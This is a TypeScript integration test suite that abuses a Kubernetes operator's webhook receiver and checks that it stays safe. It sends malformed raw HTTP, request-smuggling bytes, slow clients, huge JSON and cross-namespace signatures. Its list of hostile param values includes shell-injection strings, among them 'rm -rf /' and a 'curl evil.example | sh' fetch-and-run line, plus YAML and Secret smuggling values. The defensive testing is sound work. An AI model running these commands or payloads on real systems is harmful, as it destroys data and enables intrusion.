// Abuse that the receiver's own hostile-input suite (test/integration/receiver/robustness.test.ts:
// random bytes and headers, deep nesting, invalid UTF-8, path tricks; slow-client.test.ts: one slow
// client) does not cover: many slow clients at once, oversized and malformed header blocks sent as
// raw bytes, very wide JSON, param values built to break out into the Job spec, and crossing
// namespaces with signatures and references. Whatever arrives, the answer is a 2xx, a 4xx or a 503,
// the process survives, nothing leaks into the logs, and a value never becomes structure.
import { expect } from 'chai';
import net from 'node:net';
import { randomUUID } from 'node:crypto';
import type { V1Secret } from '@kubernetes/client-node';
import type { Pipeline, PipelineRun, WebhookTrigger } from '../../../src/api/types.ts';
import { API_VERSION } from '../../../src/api/constants.ts';
import { isKubeError } from '../../../src/kube/errors.ts';
import { pipelineRunNameFor } from '../../../src/receiver/delivery-key.ts';
import { RESOURCES } from '../../../src/kube/resources.ts';
import { createLogCapture, createLogger, type LogCapture } from '../../../src/observability/logger.ts';
import { adminClient, eventually, useNamespace } from '../../harness/fixtures.ts';
import { startTestOperator, type TestOperator } from '../../harness/operator.ts';
import { createPipeline, createTrigger, jsonBodyOf, planasonixHeaders, rawExchange, send, statusOf, type TriggerHandle } from '../receiver/receiver-fixtures.ts';
import { activeResources, type JobRecord } from './fault-fixtures.ts';
import { exists } from '../pipeline-run/run-fixtures.ts';
import { STATUS_WRITTEN_BY_TEST } from '../../harness/job-status-writer.ts';

const HEADER_TIMEOUT_MS = 500;
const REQUEST_TIMEOUT_MS = 2_000;

/** A 5xx other than 503 tells a sender to give up; 503 says retry. 0 is no answer at all. */
const acceptable = (status: number) => status >= 200 && (status < 500 || status === 503);

/** Kubernetes' expansion of $(VAR) references in args, command and env values: `$$` is a literal `$`. */
function expandLikeKubernetes(input: string, env: Record<string, string>): string {
  return input.replace(/\$(\$|\(([^)]*)\))/g, (whole, what: string, name: string | undefined) => {
    if (what === '$') return '$';
    return name !== undefined && Object.hasOwn(env, name) ? env[name]! : whole;
  });
}

/** The structure of a JSON value with every string replaced: two Jobs of one template must share it. */
function shapeOf(value: unknown): unknown {
  if (typeof value === 'string') return 'S';
  if (Array.isArray(value)) return value.map(shapeOf);
  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).sort(([a], [b]) => a.localeCompare(b)).map(([k, v]) => [k, shapeOf(v)]));
  return value;
}

describe('fault: abuse of the receiver and of the API', function () {
  this.timeout(120_000);
  const ns = useNamespace('fault-abuse');
  const otherNs = useNamespace('fault-abuse-other');
  let operator: TestOperator;
  let capture: LogCapture;
  let inject: TriggerHandle;
  let other: TriggerHandle;
  const secrets: string[] = [];

  before(async () => {
    capture = createLogCapture();
    operator = await startTestOperator(
      { headerTimeoutMs: HEADER_TIMEOUT_MS, requestTimeoutMs: REQUEST_TIMEOUT_MS },
      { logger: createLogger({ level: 'debug', destination: capture.destination }) },
    );
    const pipeline: Pipeline = {
      apiVersion: API_VERSION,
      kind: 'Pipeline',
      metadata: { name: 'inject', namespace: ns() },
      spec: {
        params: [
          { name: 'export_id', type: 'string', required: true },
          { name: 'requested_by', type: 'string', default: '' },
          { name: 'mode', type: 'string', default: '' },
          { name: 'payload', type: 'object', default: '{}' },
        ],
        history: { succeeded: 100, failed: 100 },
        jobTemplate: {
          metadata: { annotations: { 'example.com/export': '$(params.export_id)' } },
          spec: {
            ...STATUS_WRITTEN_BY_TEST,
            template: {
              spec: {
                restartPolicy: 'Never',
                containers: [
                  {
                    name: 'load',
                    image: 'registry.example/loader:1',
                    command: ['/bin/loader'],
                    args: ['--export', '$(params.export_id)', '--by=$(params.requested_by)', '$(params.mode)', '$(params.payload)'],
                    env: [{ name: 'EXTRA', value: 'x-$(params.export_id)-y' }],
                  },
                ],
              },
            },
          },
        },
      },
    };
    await adminClient().create(RESOURCES.pipelines, pipeline);
    inject = await createTrigger(operator, ns(), 'inject', {
      pipelineRef: { name: 'inject' },
      params: [
        { name: 'export_id', from: 'body', path: '/export_id', required: true },
        { name: 'requested_by', from: 'header', header: 'X-Requested-By' },
        { name: 'mode', from: 'query', query: 'mode' },
        { name: 'payload', from: 'body', path: '/payload', type: 'object' },
      ],
    });
    await createPipeline(otherNs());
    other = await createTrigger(operator, otherNs(), 'other');
    secrets.push(inject.secret, other.secret);
  });
  after(async () => {
    await operator?.stop();
  });
  afterEach(() => {
    // Nothing logged holds a signing secret or a capability path, whatever was sent.
    const text = capture.text();
    for (const value of [...secrets, inject?.path, other?.path].filter(Boolean) as string[]) {
      expect(text.includes(value), `the logs contain ${value.slice(0, 12)}…`).to.equal(false);
    }
  });

  describe('param values that try to become structure in the Job', () => {
    const hostile = [
      '"; rm -rf / #',
      "$(rm -rf /) `id` && curl evil.example | sh",
      '$(PARAM_EXPORT_ID)',
      '$(params.mode)',
      '$$(HOME) $ $$ $(',
      'a: b\n- c: d\n---\napiVersion: v1\nkind: Secret',
      '{"a":1}',
      '["--privileged", "--net=host"]',
      '{{ .Values.secret }} ${HOME} %s %n',
      "line1\r\nline2\u2028\u0085end",
      '\u202eevil\u202c \ud83d\udca5 \u00e9',
      'x'.repeat(8_000),
    ];
    const headerSafe = (v: string) => v.replace(/[^\x20-\x7e]/g, '?').slice(0, 2_000);

    it('are stored exactly and reach the Job only as whole strings, whatever they contain', async () => {
      const jobs: { value: string; header: string; run: PipelineRun; job: JobRecord }[] = [];
      for (const value of ['plain-value', ...hostile]) {
        const header = headerSafe(value);
        const body = JSON.stringify({ export_id: value, payload: { text: value, nested: [value] } });
        const reply = await send(operator.receiverUrl, `${inject.path}?mode=${encodeURIComponent(value)}`, {
          headers: { ...planasonixHeaders(inject.secret, body, { deliveryId: randomUUID() }), 'x-requested-by': header },
          body,
        });
        expect(reply.status, reply.text).to.equal(202);
        const name = (reply.json().pipelineRun as { name: string }).name;
        const run = await adminClient().get<PipelineRun>(RESOURCES.pipelineRuns, ns(), name);
        expect(run.spec.params).to.deep.equal({ export_id: value, requested_by: header, mode: value, payload: JSON.stringify({ text: value, nested: [value] }) });
        const job = await eventually(() => adminClient().get<JobRecord>(RESOURCES.jobs, ns(), name), 20_000, 100);
        jobs.push({ value, header, run, job });
      }
      const [plain, ...rest] = jobs;
      for (const { value, header, run, job } of jobs) {
        // Same structure as the Job of a plain value: no key, list item or container was added.
        expect(shapeOf(job.spec), `the Job of ${JSON.stringify(value.slice(0, 40))}`).to.deep.equal(shapeOf(plain!.job.spec));
        const [container] = job.spec.template.spec.containers;
        const env = Object.fromEntries((container!.env ?? []).filter((e) => e.value !== undefined).map((e) => [e.name, e.value!]));
        const expanded = Object.fromEntries(Object.entries(env).map(([k, v]) => [k, expandLikeKubernetes(v, {})]));
        // What the process receives once Kubernetes expanded $(VAR) references: the value, exactly.
        expect(container!.command).to.deep.equal(['/bin/loader']);
        expect(container!.args!.map((a) => expandLikeKubernetes(a, expanded))).to.deep.equal(['--export', value, `--by=${header}`, value, run.spec.params!.payload]);
        expect(expanded.PARAM_EXPORT_ID).to.equal(value);
        expect(expanded.PARAM_MODE).to.equal(value);
        expect(expanded.EXTRA).to.equal(`x-${value}-y`);
        expect(JSON.parse(expanded.PARAM_PAYLOAD!)).to.deep.equal({ text: value, nested: [value] });
        expect((job.metadata.annotations ?? {})['example.com/export']).to.equal(value);
      }
      expect(rest).to.have.length(hostile.length);
    });

    it('CR, LF, NUL and obs-fold in a header mapped to a param are refused before the app, or never reach the param', async () => {
      const body = JSON.stringify({ export_id: 'header-injection' });
      const host = new URL(operator.receiverUrl).host;
      const tricks = [
        'billing\rX-Planasonix-Delivery: injected',
        'billing\nX-Planasonix-Delivery: injected',
        'billing\r\n folded: continuation',
        'billing\0nul',
        'billing\r\n\r\nGET /admin HTTP/1.1',
      ];
      const answers: number[] = [];
      for (const value of tricks) {
        const deliveryId = randomUUID();
        const sig = planasonixHeaders(inject.secret, body, { deliveryId });
        const head =
          `POST ${inject.path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n` +
          Object.entries(sig).map(([k, v]) => `${k}: ${v}\r\n`).join('') +
          `X-Requested-By: ${value}\r\n\r\n`;
        const { response } = await rawExchange(operator.receiverUrl, Buffer.concat([Buffer.from(head, 'latin1'), Buffer.from(body)]));
        const status = statusOf(response);
        answers.push(status);
        expect(acceptable(status), `${JSON.stringify(value)} → ${response.slice(0, 200)}`).to.equal(true);
        if (status === 202) {
          const run = await adminClient().get<PipelineRun>(RESOURCES.pipelineRuns, ns(), (jsonBodyOf(response)!.pipelineRun as { name: string }).name);
          expect(run.spec.params?.requested_by ?? '').not.to.match(/[\r\n\0]/);
          expect(run.spec.trigger?.deliveryId).to.equal(`id:${deliveryId}`);
        } else {
          expect(status, JSON.stringify(value)).to.equal(400);
          expect(jsonBodyOf(response)?.error, response.slice(0, 300)).to.be.a('string');
        }
      }
      console.log(`      answers: ${answers.join(', ')}`);
    });
  });

  describe('malformed HTTP sent as raw bytes', () => {
    const host = () => new URL(operator.receiverUrl).host;
    const cases: { title: string; request: () => string; statuses: number[] }[] = [
      { title: 'one header of 20 KiB', request: () => `POST ${inject.path} HTTP/1.1\r\nHost: ${host()}\r\nX-Big: ${'a'.repeat(20 * 1024)}\r\nContent-Length: 2\r\n\r\n{}`, statuses: [431] },
      {
        title: '400 headers of 60 bytes',
        request: () => `POST ${inject.path} HTTP/1.1\r\nHost: ${host()}\r\n${Array.from({ length: 400 }, (_, i) => `X-H${i}: ${'b'.repeat(50)}\r\n`).join('')}Content-Length: 2\r\n\r\n{}`,
        statuses: [431],
      },
      { title: 'Content-Length and Transfer-Encoding together (smuggling)', request: () => `POST ${inject.path} HTTP/1.1\r\nHost: ${host()}\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`, statuses: [400] },
      { title: 'two different Content-Lengths', request: () => `POST ${inject.path} HTTP/1.1\r\nHost: ${host()}\r\nContent-Length: 2\r\nContent-Length: 5\r\n\r\n{}`, statuses: [400] },
      { title: 'a negative Content-Length', request: () => `POST ${inject.path} HTTP/1.1\r\nHost: ${host()}\r\nContent-Length: -1\r\n\r\n{}`, statuses: [400] },
      { title: 'a chunk size that overflows', request: () => `POST ${inject.path} HTTP/1.1\r\nHost: ${host()}\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n{}\r\n0\r\n\r\n`, statuses: [400, 413] },
      { title: 'HTTP/0.9 and garbage request lines', request: () => `GET ${inject.path}\r\n\r\n\x00\x01\x02 \xff\xfe`, statuses: [400] },
      { title: 'a request line of 20 KiB', request: () => `POST ${inject.path}?${'q'.repeat(20 * 1024)} HTTP/1.1\r\nHost: ${host()}\r\n\r\n`, statuses: [414, 431] },
    ];
    for (const c of cases) {
      it(`${c.title}: a JSON ${c.statuses.join(' or ')}`, async () => {
        const { response } = await rawExchange(operator.receiverUrl, Buffer.from(c.request(), 'latin1'));
        const status = statusOf(response);
        expect(c.statuses, response.slice(0, 200)).to.include(status);
        expect(jsonBodyOf(response)?.error, response.slice(0, 300)).to.be.a('string');
      });
    }
  });

  it('very wide JSON within the size limit is parsed in bounded time, and the answer never echoes it', async () => {
    const marker = `wide-${randomUUID()}`;
    const bodies = {
      'an object of 60 000 keys': JSON.stringify({ export_id: 'wide-object', ...Object.fromEntries(Array.from({ length: 60_000 }, (_, i) => [`k${i}`, i])) }),
      'an array of 200 000 numbers': JSON.stringify({ export_id: 'wide-array', a: Array.from({ length: 200_000 }, (_, i) => i % 10) }),
      'a string of 1 MB less a little': JSON.stringify({ export_id: 'wide-string', s: marker + 'x'.repeat(1_000_000 - 200) }),
      'a million-digit number': `{"export_id":"wide-number","n":${'9'.repeat(1_000_000 - 100)}}`,
    };
    for (const [title, body] of Object.entries(bodies)) {
      const reply = await send(operator.receiverUrl, inject.path, { headers: planasonixHeaders(inject.secret, body, { deliveryId: randomUUID() }), body });
      expect([202, 413], `${title}: ${reply.text}`).to.include(reply.status);
      expect(reply.durationMs, title).to.be.below(5_000);
      expect(reply.text.includes(marker)).to.equal(false);
    }
  });

  it('a crowd of slow clients is cut off at the timeouts while signed deliveries are still served promptly', async () => {
    const before = activeResources().total;
    const url = new URL(operator.receiverUrl);
    let connected = 0;
    const slow = (head: string, drip: string) =>
      new Promise<number>((resolve) => {
        const started = Date.now();
        const socket = net.connect(Number(url.port), url.hostname, () => connected++);
        const timer = setInterval(() => socket.write(drip), 100);
        socket.on('error', () => {});
        socket.on('close', () => {
          clearInterval(timer);
          resolve(Date.now() - started);
        });
        socket.write(head);
      });
    const headers = Array.from({ length: 60 }, () => slow(`POST ${inject.path} HTTP/1.1\r\nHost: ${url.host}\r\n`, 'X-Slow: a\r\n'));
    const bodies = Array.from({ length: 30 }, () =>
      slow(`POST ${inject.path} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"export_id":"`, 'x'),
    );
    // Every slow client holds its connection before the signed deliveries go.
    await eventually(async () => connected === headers.length + bodies.length, 10_000, 10);
    const served: number[] = [];
    for (let i = 0; i < 10; i++) {
      const body = JSON.stringify({ export_id: `during-slowloris-${i}` });
      const reply = await send(operator.receiverUrl, inject.path, { headers: planasonixHeaders(inject.secret, body, { deliveryId: randomUUID() }), body });
      expect(reply.status, reply.text).to.equal(202);
      served.push(reply.durationMs);
    }
    const headerClosed = await Promise.all(headers);
    const bodyClosed = await Promise.all(bodies);
    console.log(`      slowest signed delivery ${Math.round(Math.max(...served))} ms; header dribblers cut after ≤ ${Math.max(...headerClosed)} ms, body dribblers after ≤ ${Math.max(...bodyClosed)} ms`);
    expect(Math.max(...served)).to.be.below(1_500);
    expect(Math.max(...headerClosed)).to.be.below(HEADER_TIMEOUT_MS + 2_000);
    expect(Math.max(...bodyClosed)).to.be.below(REQUEST_TIMEOUT_MS + 2_500);
    await eventually(async () => activeResources().total <= before + 2, 5_000, 100);
  });

  describe('across namespaces', () => {
    it('refuses a delivery signed with another namespace\'s secret, both ways, and stores nothing', async () => {
      for (const [target, wrong] of [
        [inject, other],
        [other, inject],
      ] as const) {
        const deliveryId = randomUUID();
        const body = JSON.stringify({ export_id: 'cross' });
        const reply = await send(operator.receiverUrl, target.path, { headers: planasonixHeaders(wrong.secret, body, { deliveryId }), body });
        expect(reply.status).to.equal(401);
        expect(reply.json().error).to.equal('invalid_signature');
        expect(await exists(RESOURCES.pipelineRuns, target.namespace, pipelineRunNameFor(target.name, target.uid, `id:${deliveryId}`))).to.equal(false);
      }
    });

    it('a pipelineRef cannot name another namespace: the API server refuses "other/x"', async () => {
      const error = await adminClient()
        .create<WebhookTrigger>(RESOURCES.webhookTriggers, { apiVersion: API_VERSION, kind: 'WebhookTrigger', metadata: { name: 'cross-pipeline', namespace: ns() }, spec: { pipelineRef: { name: `${otherNs()}/loader` } } })
        .then(
          () => undefined,
          (e: unknown) => e,
        );
      expect(isKubeError(error) && error.status, String(error)).to.equal(422);
    });

    it('a secretRef or pipelineRef naming an object that exists only in another namespace resolves in the trigger\'s own: not found, and never served', async () => {
      const shared: V1Secret = { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'shared-signing', namespace: otherNs() }, stringData: { 'signing-secret': `pxs_shared_${randomUUID()}` } };
      await adminClient().create(RESOURCES.secrets, shared);
      secrets.push(shared.stringData!['signing-secret']!);
      const create = (name: string, spec: Partial<WebhookTrigger['spec']>) =>
        adminClient().create<WebhookTrigger>(RESOURCES.webhookTriggers, { apiVersion: API_VERSION, kind: 'WebhookTrigger', metadata: { name, namespace: ns() }, spec: { pipelineRef: { name: 'inject' }, ...spec } });
      await create('borrowed-secret', { auth: { scheme: 'planasonix', secretRef: { name: 'shared-signing' } }, params: [{ name: 'export_id', from: 'body', path: '/export_id' }] });
      await create('borrowed-pipeline', { pipelineRef: { name: 'loader' } }); // "loader" exists only in the other namespace
      const reasonOf = async (name: string) => (await adminClient().get<WebhookTrigger>(RESOURCES.webhookTriggers, ns(), name)).status?.conditions?.find((c) => c.type === 'Ready');
      const secretReady = await eventually(async () => (await reasonOf('borrowed-secret'))?.reason === 'SecretNotFound' && (await reasonOf('borrowed-secret')), 20_000);
      expect(secretReady.status).to.equal('False');
      const pipelineReady = await eventually(async () => (await reasonOf('borrowed-pipeline'))?.reason === 'PipelineNotFound' && (await reasonOf('borrowed-pipeline')), 20_000);
      expect(pipelineReady.status).to.equal('False');
      // Whatever path the trigger got, a delivery signed with the other namespace's secret is not accepted.
      const generated = await eventually(() => adminClient().get<V1Secret>(RESOURCES.secrets, ns(), 'borrowed-secret-webhook'), 20_000);
      const path = Buffer.from(generated.data!.path!, 'base64').toString();
      const body = JSON.stringify({ export_id: 'borrowed' });
      const reply = await send(operator.receiverUrl, path, { headers: planasonixHeaders(shared.stringData!['signing-secret']!, body, { deliveryId: randomUUID() }), body });
      expect([404, 503], reply.text).to.include(reply.status);
      const runs = await adminClient().list<PipelineRun>(RESOURCES.pipelineRuns, ns(), { labelSelector: 'planasonix.io/trigger=borrowed-secret' });
      expect(runs.items).to.deep.equal([]);
    });
  });

  it('the operator is still alive and serving after all of that', async () => {
    const body = JSON.stringify({ export_id: 'after-abuse' });
    const reply = await send(operator.receiverUrl, inject.path, { headers: planasonixHeaders(inject.secret, body, { deliveryId: randomUUID() }), body });
    expect(reply.status, reply.text).to.equal(202);
    expect(operator.manager.ready()).to.equal(true);
    // No unexpected error was logged: every failure above was an expected refusal.
    const errors = capture.records().filter((r) => r.level === 'error' || r.level === 'fatal');
    expect(errors.map((r) => r.msg)).to.deep.equal([]);
  });
});
